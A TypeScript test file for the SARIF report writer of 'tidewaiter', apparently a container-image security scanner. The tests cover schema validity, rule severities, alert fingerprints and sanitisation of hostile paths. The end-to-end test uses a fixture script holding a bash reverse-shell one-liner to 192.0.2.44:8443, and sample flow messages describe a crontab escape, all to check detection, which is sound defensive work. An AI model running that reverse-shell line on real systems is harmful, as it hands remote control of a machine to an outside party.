import { readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import formats from 'ajv-formats';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { detectors } from '../detectors/all.gen.ts';
import { useGrammarFiles } from '../grammar-files.ts';
import { hostileReport } from '../testing/hostile-report.ts';
import { sampleReport } from '../testing/sample-report.ts';
import { reportOf } from '../testing/scene.ts';
import { safeJson } from './printable.ts';
import { sarifLimits, sarifReport } from './sarif.ts';
import { artifactUri } from './sarif-location.ts';

beforeAll(() => useGrammarFiles());

const tool = { name: 'tidewaiter', version: '1.2.3', engine: 'test' };
const schema = JSON.parse(readFileSync(new URL('../testing/sarif-2.1.0.schema.json', import.meta.url), 'utf8'));
const ajv = new Ajv2020({ strict: false, allErrors: true });
formats.default(ajv);
const validate = ajv.compile(schema);

interface Location {
  readonly physicalLocation: {
    readonly artifactLocation: { readonly uri: string };
    readonly region: Readonly<Record<string, unknown>>;
  };
}
interface Sarif {
  readonly runs: readonly {
    readonly tool: {
      readonly driver: { readonly rules: readonly { id: string; properties: Record<string, unknown> }[] };
    };
    readonly automationDetails: { readonly id: string };
    readonly invocations: readonly {
      readonly executionSuccessful: boolean;
      readonly toolExecutionNotifications: readonly { readonly message: { readonly text: string } }[];
    }[];
    readonly results: readonly {
      readonly ruleId: string;
      readonly ruleIndex: number;
      readonly level: string;
      readonly message: { readonly text: string };
      readonly locations: readonly Location[];
      readonly partialFingerprints: { readonly primaryLocationLineHash: string };
      readonly properties: { readonly images: readonly string[] };
    }[];
  }[];
}

/** The document as a consumer gets it, checked against the schema on the way. */
function written(...args: Parameters<typeof sarifReport>): Sarif {
  const document = JSON.parse(safeJson(sarifReport(...args))) as Sarif;
  expect(validate(document), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
  return document;
}

test('the schema can say no', () => {
  expect(validate({ version: '2.1.0', runs: [{ tool: {} }] })).toBe(false);
});

describe('a report as SARIF', () => {
  test('one result a finding, each with what GitHub requires', () => {
    const [run] = written([sampleReport()], tool).runs;
    expect(run?.automationDetails.id).toBe('tidewaiter/registry.example/someone/tomcat11/');
    expect(run?.results.map(({ ruleId, level }) => `${ruleId} ${level}`)).toEqual([
      'host-cron error',
      'reverse-shell warning',
      'dual-use-tool note',
    ]);
    for (const result of run?.results ?? []) {
      expect(run?.tool.driver.rules[result.ruleIndex]?.id).toBe(result.ruleId);
      expect(result.message.text).not.toBe('');
      const region = result.locations[0]?.physicalLocation.region;
      expect(region).toMatchObject({
        startLine: expect.any(Number),
        startColumn: 1,
        endLine: expect.any(Number),
        endColumn: 1,
      });
      expect(result.partialFingerprints.primaryLocationLineHash).toMatch(/^[0-9a-f]{32}:\d+$/);
    }
    expect(run?.results.map((result) => result.locations[0]?.physicalLocation.artifactLocation.uri)).toEqual([
      'image/run.sh',
      'image-config.json',
      'image/usr/bin/nmap',
    ]);
    expect(run?.invocations[0]).toEqual({ executionSuccessful: true, toolExecutionNotifications: [] });
  });

  test('the worst of a chain has all its steps as a flow', () => {
    const report = sampleReport({ chains: [{ id: 'f1', head: 0, steps: [1, 0] }] });
    const results = written([report], tool).runs[0]?.results ?? [];
    const flows = results.map((result) => (result as { codeFlows?: unknown }).codeFlows);
    expect(flows.slice(1)).toEqual(flows.slice(1).map(() => undefined));
    const [first] = JSON.parse(JSON.stringify(flows[0])) as { threadFlows: { locations: Step[] }[] }[];
    type Step = { location: { message: { text: string } }; executionOrder: number };
    expect(first?.threadFlows[0]?.locations.map((step) => [step.executionOrder, step.location.message.text])).toEqual([
      [1, 'Hands an interactive shell to 192.0.2.44:8443.'],
      [2, "Adds a job to the host's crontab through /mnt/etc."],
    ]);
  });

  test('rules say how bad, how sure and which techniques', () => {
    const [run] = written([sampleReport()], tool).runs;
    expect(run?.tool.driver.rules.map(({ id, properties }) => ({ id, ...properties }))).toEqual([
      { id: 'dual-use-tool', tags: ['security'], 'security-severity': '2.0', precision: 'low' },
      { id: 'host-cron', tags: ['security', 'T1053.003', 'T1611'], 'security-severity': '9.5', precision: 'high' },
      {
        id: 'reverse-shell',
        tags: ['security', 'T1059.004', 'T1071', 'T1095'],
        'security-severity': '6.0',
        precision: 'medium',
      },
    ]);
  });

  test('every detector makes a rule within GitHub’s limits', () => {
    const [finding] = sampleReport().findings;
    const findings = detectors.flatMap(({ id }) => (finding === undefined ? [] : [{ ...finding, detector: id }]));
    const rules = written([sampleReport({ findings })], tool).runs[0]?.tool.driver.rules ?? [];
    expect(rules).toHaveLength(detectors.length);
    for (const rule of rules as unknown as Record<string, { text: string }>[]) {
      for (const part of ['shortDescription', 'fullDescription', 'help']) {
        const text = rule[part]?.text ?? '';
        expect(text.length).toBeGreaterThan(0);
        expect(text.length).toBeLessThanOrEqual(1024);
      }
    }
  });

  test('an alert stays the same in another tag, another build and on another platform', () => {
    const before = sampleReport();
    const moved = structuredClone(before);
    moved.image.reference = 'registry.example/someone/tomcat11:other';
    moved.image.platform = 'linux/arm64';
    for (const finding of moved.findings)
      if (finding.where.layer) finding.where.layer = { index: 7, digest: 'sha256:x' };
    const hashes = (document: Sarif) =>
      document.runs.flatMap((run) => run.results.map((result) => result.partialFingerprints.primaryLocationLineHash));
    expect(hashes(written([moved], tool))).toEqual(hashes(written([before], tool)));
    const both = written([before, moved], tool);
    expect(both.runs).toHaveLength(1);
    expect(both.runs[0]?.results).toHaveLength(3);
    expect(both.runs[0]?.results[0]?.properties.images).toEqual([
      'registry.example/someone/tomcat11:latest (linux/amd64)',
      'registry.example/someone/tomcat11:other (linux/arm64)',
    ]);
  });

  test('other evidence is another alert, and the same one twice in an image counts', () => {
    const [finding] = sampleReport().findings;
    if (finding === undefined) throw new Error('the sample has findings');
    const other = { ...finding, evidence: [{ text: 'something else', where: finding.where }] };
    const [run] = written([sampleReport({ findings: [finding, finding, other] })], tool).runs;
    const hashes = run?.results.map((result) => result.partialFingerprints.primaryLocationLineHash) ?? [];
    expect(new Set(hashes).size).toBe(3);
    expect(hashes[1]).toBe(hashes[0]?.replace(/:1$/, ':2'));
  });
});

describe('what was not inspected is said', () => {
  test('gaps are notifications of a run that was not wholly successful', () => {
    const gaps = [{ reason: 'limit' as const, detail: 'too large', layer: 0, path: '/opt/a b' }];
    const [run] = written([sampleReport({ complete: false, gaps })], tool).runs;
    expect(run?.invocations[0]?.executionSuccessful).toBe(false);
    expect(run?.invocations[0]?.toolExecutionNotifications[0]?.message.text).toContain('too large');
  });

  test('an image that could not be had has a run of its own', () => {
    const failure = { reference: 'registry.example/gone', code: 'NOT_FOUND', message: 'no such image' };
    const { runs } = written([], tool, { failures: [failure] });
    expect(runs.map((run) => run.automationDetails.id)).toEqual(['tidewaiter/not-scanned/']);
    expect(runs[0]?.invocations[0]?.executionSuccessful).toBe(false);
  });

  test('more results than are shown are cut from the mild end, and told', () => {
    const sample = sampleReport();
    const [finding] = sample.findings;
    if (finding === undefined) throw new Error('the sample has findings');
    const note = { ...finding, severity: 'note' as const };
    const findings = [...Array.from({ length: sarifLimits.results }, () => note), finding];
    const document = sarifReport([sampleReport({ findings })], tool) as unknown as Sarif;
    expect(document.runs[0]?.results).toHaveLength(sarifLimits.results);
    expect(document.runs[0]?.results[0]?.level).toBe('error');
    expect(document.runs[0]?.invocations[0]?.toolExecutionNotifications[0]?.message.text).toMatch(/^1 more findings/);
  });

  test('more repositories than runs are allowed share one run', () => {
    const reports = Array.from({ length: sarifLimits.runs + 1 }, (_, index) => {
      const report = sampleReport();
      return { ...report, image: { ...report.image, reference: `registry.example/r${index}` } };
    });
    expect(written(reports, tool).runs.map((run) => run.automationDetails.id)).toEqual(['tidewaiter/']);
    expect(written(reports.slice(1), tool).runs).toHaveLength(sarifLimits.runs);
  });
});

describe('hostile text', () => {
  test('leaves a valid document with relative URIs, no links and nothing unprintable', () => {
    fc.assert(
      fc.property(hostileReport, (report) => {
        const document = written([report], tool);
        for (const run of document.runs) {
          expect(run.automationDetails.id).toMatch(/^tidewaiter\/[A-Za-z0-9._/-]*\/$/);
          for (const result of run.results) {
            expect(result.message.text).not.toContain('](');
            expect(result.message.text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
            for (const { physicalLocation } of result.locations)
              expect(physicalLocation.artifactLocation.uri).toMatch(
                /^image(?:-config\.json|(?:\/[A-Za-z0-9._~!'()*%-]+)*)$/,
              );
          }
        }
      }),
      { numRuns: 80 },
    );
  });

  test.each([
    ['/usr/bin/x', 'image/usr/bin/x'],
    ['/a b/ü', 'image/a%20b/%C3%BC'],
    ['/a/../../etc', 'image/a/__/__/etc'],
    ['/a\\b', 'image/a%5Cb'],
    ['/http://x', 'image/http%3A/x'],
    ['/\ud800', 'image/%EF%BF%BD'],
    ['', 'image'],
  ])('%j is %s', (path, uri) => {
    expect(artifactUri({ path })).toBe(uri);
    expect(new URL(uri, 'https://base.example/root/').pathname.startsWith('/root/image')).toBe(true);
  });
});

test('a real scan, end to end', async () => {
  const report = await reportOf({
    entrypoint: ['/bin/sh', '/run.sh'],
    files: { '/run.sh': '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.44/8443 0>&1\n' },
  });
  const [run] = written([report], tool).runs;
  const shell = run?.results.find(({ ruleId }) => ruleId === 'reverse-shell');
  expect(shell).toMatchObject({
    level: 'error',
    locations: [{ physicalLocation: { artifactLocation: { uri: 'image/run.sh' }, region: { startLine: 2 } } }],
  });
});
